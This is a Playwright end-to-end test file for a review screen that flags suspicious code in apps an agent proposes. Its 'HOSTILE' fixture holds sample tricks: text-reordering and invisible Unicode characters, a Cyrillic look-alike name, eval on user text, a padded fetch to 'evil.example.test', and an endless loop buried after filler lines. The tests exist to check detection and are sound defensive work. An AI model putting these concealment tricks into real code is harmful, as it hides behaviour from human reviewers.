import type { Browser, Locator, Page } from "playwright-core";
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { Agent, type Proposed } from "../testkit/agent.ts";
import { launchBrowser } from "../testkit/browser.ts";
import { complaintsOf, faultsOf, LOOKS } from "../testkit/looks.ts";
import { signInOn } from "../testkit/pages.ts";
import { readToEnd } from "../testkit/reading.ts";
import { STAND_UP_TIMER } from "../testkit/samples.ts";
import { adminToken, TestServer } from "../testkit/server.ts";

// What the code shows of itself leads the card, and each signal leads to its line (cases R1 to R4).

let server: TestServer;
let browser: Browser;
let agent: Agent;
let page: Page;
let room_id: string;
let hostile: string;
let plain: string;

const APP = "src/App.tsx";
const LATE = "src/late.ts";

const HOSTILE: Readonly<Record<string, string>> = {
  [APP]: [
    `import { useState } from "react";`,
    `import "./late.ts";`,
    `const run = eval;`,
    `export default function App() {`,
    `  const [level] = useState("user\u202e \u2066// admin\u2069");`,
    `  const key = "to\u200btal", admin = 1, \u0430dmin = 2;`,
    `  return <p onClick={() => run(level)}>{key}</p>;`,
    `}`,
    `const pad = "${"x ".repeat(400)}"; fetch("https://evil.example.test/" + pad);`,
  ].join("\n"),
  [LATE]: `${"// nothing here\n".repeat(80)}fetch("/late");\nexport function spin() { while (true) {} }\n`,
};

beforeAll(async () => {
  server = await TestServer.launch({ env: { ANTEROOM_PENDING_LIMIT: "0" } });
  browser = await launchBrowser();
  agent = new Agent(server.origin, await adminToken(server));
  room_id = await agent.roomId();
  hostile = await propose("Prize wheel", HOSTILE);
  plain = await propose("Stand-up timer", STAND_UP_TIMER);
});
afterAll(async () => {
  await browser?.close();
  await server?.[Symbol.asyncDispose]();
});
beforeEach(async () => {
  const context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
  page = await context.newPage();
  await signInOn(page, server.origin);
  return async () => await context.close();
});

async function propose(name: string, files: Readonly<Record<string, string>>): Promise<string> {
  const args = { room_id, name, files, idempotency_key: `scan of ${name}` };
  return (await agent.ask<Proposed>("propose_room_snippet_app", args)).proposal_id;
}

async function open(proposal_id: string): Promise<void> {
  await page.goto(`${server.origin}/connected/proposals/${proposal_id}`);
  await page.getByRole("heading", { name: /Review all proposed files/ }).waitFor();
}

const uses = (): Locator => page.getByRole("region", { name: "What the code uses and tries" });
const found = (): Locator => page.getByRole("region", { name: /findings?$/ });
const approve = (): Locator => page.getByRole("button", { name: "Approve and create" });

/** The row of a section under a heading. */
function row(section: Locator, heading: RegExp): Locator {
  return section.getByRole("listitem").filter({ has: page.getByRole("heading", { name: heading }) });
}

/** The line that is pointed at, once it is in sight: its file, its number, and the note below it. */
async function pointedAt(): Promise<{ file: string | null; line: string | null; note: string }> {
  const line = page.locator("[data-line]").filter({ has: page.locator("p") });
  await expect
    .poll(async () => {
      const box = page.locator("[data-file-box]:focus");
      const [outer, inner] = [await box.boundingBox(), await line.boundingBox()];
      return outer && inner && inner.y >= outer.y - 1 && inner.y < outer.y + outer.height;
    })
    .toBe(true);
  return {
    file: await page.locator("[data-file-box]:focus").getAttribute("aria-label"),
    line: await line.getAttribute("data-line"),
    note: await line.locator("p").innerText(),
  };
}

describe("a hostile app", () => {
  beforeEach(async () => await open(hostile));

  test("shows what it uses and tries, each leading to its first place", async () => {
    expect(await row(uses(), /^Imports$/).innerText()).toContain("react");
    await row(uses(), /^Tries the network$/)
      .getByRole("button", { name: /^fetch ×2/ })
      .click();
    expect(await pointedAt()).toEqual({
      file: `${APP}, whole file`,
      line: "9",
      note: "Tries the network: fetch",
    });
    await row(uses(), /^Makes code from text$/)
      .getByRole("button", { name: /^eval/ })
      .click();
    expect((await pointedAt()).line).toBe("3");
    expect(await uses().getByText("nothing but drawing").count()).toBe(0);
  });

  test("a signal that leads past unread lines does not pass for reading them (phish-2)", async () => {
    const late = page.getByRole("article").filter({ has: page.getByRole("heading", { name: LATE }) });
    await row(found(), /^Loops without a visible end/)
      .getByRole("button", { name: `${LATE}:82` })
      .click();
    await pointedAt();
    // Reading goes on from the start, and what was led past counts then.
    const box = late.locator("[data-file-box]");
    await box.press("Home");
    await late.getByText(/^Read to line \d+$/).waitFor();
    expect(await late.getByText("Seen to its end").count()).toBe(0);
    expect(await approve().getAttribute("aria-disabled")).toBe("true");
    await readToEnd(late);
  });

  test.each([
    [
      /^Characters that reorder text/,
      APP,
      "5",
      "Characters that reorder text: 3 characters (U+202E, U+2066, U+2069) in a text",
    ],
    [/^Invisible characters/, APP, "6", "Invisible characters: U+200B in a text"],
    [
      /^Names that look like others/,
      APP,
      "6",
      "Names that look like others: \u0430dmin (U+0430) looks like admin in code",
    ],
    [/^Very long lines/, APP, "9", /^Very long lines: 8\d\d characters$/],
    [/^Loops without a visible end/, LATE, "82", "Loops without a visible end"],
    [/^Hosts that are named/, APP, "9", "Hosts that are named: evil.example.test"],
  ])("%s: the signal leads to its line", async (heading, file, line, note) => {
    await found().getByText("Signals for your eyes, not verdicts.").waitFor();
    await row(found(), heading)
      .getByRole("button", { name: `${file}:${line}` })
      .press("Enter");
    expect(await pointedAt()).toEqual({
      file: `${file}, whole file`,
      line,
      note: typeof note === "string" ? note : expect.stringMatching(note),
    });
  });

  test("is walked through from finding to finding by single keys, to its ends", async () => {
    await page.keyboard.press("n");
    expect((await pointedAt()).line).toBe("5");
    await page.keyboard.press("n");
    expect((await pointedAt()).line).toBe("6");
    expect(await found().locator("[aria-current]").innerText()).toContain(`${APP}:6`);
    await page.getByRole("status").filter({ hasText: "Invisible characters: U+200B in a text" }).waitFor();
    await page.keyboard.press("p");
    await page.keyboard.press("p");
    expect((await pointedAt()).line).toBe("5");
    for (let step = 0; step < 12; step += 1) await page.keyboard.press("n");
    expect(await pointedAt()).toMatchObject({ file: `${LATE}, whole file`, line: "82" });
    await page.keyboard.press("?");
    await page.getByRole("dialog").getByText("Next finding").waitFor();
  });
});

test("an app that only draws gets a quiet line, and is approved as before", async () => {
  await open(plain);
  await uses().getByText("The scan saw nothing but drawing").waitFor();
  await page.getByRole("heading", { name: "No findings" }).waitFor();
  expect(await row(uses(), /^Imports$/).innerText()).toContain("react");
  await page.keyboard.press("n");
  expect(await page.locator("[data-line] p").count()).toBe(0);
  expect(await approve().getAttribute("aria-disabled")).toBe("true");
  for (const path of Object.keys(STAND_UP_TIMER)) {
    await readToEnd(page.getByRole("article", { name: path }));
  }
  await approve().click();
  await page.getByRole("link", { name: "Open the tab" }).waitFor();
});

test("the queue says how many findings there are, and nothing where there are none", async () => {
  await propose("Quiet one", { [APP]: "export default () => null;\n" });
  await page.goto(`${server.origin}/connected`);
  const line = (name: string): Locator => page.getByRole("listitem").filter({ hasText: name });
  expect(await line("Prize wheel").innerText()).toMatch(/2 files, [\d.]+ KB\s+\d+ findings/);
  expect(await line("Quiet one").innerText()).not.toContain("finding");
});

test("more than fits is counted, and the list is opened by keyboard", async () => {
  const loops = "while (true) {};\n".repeat(30);
  const files = Object.fromEntries(Array.from({ length: 99 }, (_, n) => [`src/n${n}.ts`, loops]));
  await open(await propose("Many", { ...files, [APP]: "export default () => null;\n" }));
  const loopsRow = row(found(), /^Loops without a visible end 2,970$/);
  await loopsRow.getByText("2,954 more are not listed.").waitFor();
  expect(await loopsRow.getByRole("button", { name: /:1$/ }).count()).toBe(3);
  await loopsRow.getByRole("button", { name: "Show 13 more" }).press("Enter");
  expect(await loopsRow.getByRole("button", { name: /:1$/ }).count()).toBe(16);
});

test("what a newer server tells is shown in general words, and no report is said to be none", async () => {
  const place = { file: APP, line: 1, column: 1, end_column: 2 };
  const scans = [
    {
      capabilities: [{ capability: "telepathy", name: "mi\u200bnd", total: 1, places: [place] }],
      findings: [
        { ...place, code: "quantum_leap", data: { depth: { of: 3 } } },
        { ...place, code: "long_line", data: {} },
      ],
      totals: { quantum_leap: 1, long_line: 1 },
    },
    undefined,
  ];
  await page.route("**/api/v1/open_proposal", async (route) => {
    const response = await route.fetch();
    const { scan: _, ...card } = (await response.json()) as { scan: unknown };
    await route.fulfill({ response, json: { ...card, scan: scans.shift() } });
  });
  await open(hostile);
  expect(await row(uses(), /Something newer: telepathy/).innerText()).toContain("miU+200Bnd");
  await row(found(), /Something newer: quantum_leap/)
    .getByRole("button")
    .click();
  expect((await pointedAt()).note).toBe("Something newer: quantum_leap");
  await open(hostile);
  await page.getByText("The code could not be scanned.").waitFor();
  await approve().waitFor();
});

test.each(Object.entries(LOOKS))("is usable by everybody: %s", async (_look, options) => {
  const context = await browser.newContext(options);
  page = await context.newPage();
  const complaints = complaintsOf(page);
  await signInOn(page, server.origin);
  await open(hostile);
  await page.keyboard.press("n");
  await pointedAt();
  expect(await faultsOf(page)).toEqual([]);
  expect(complaints).toEqual([]);
  await context.close();
});
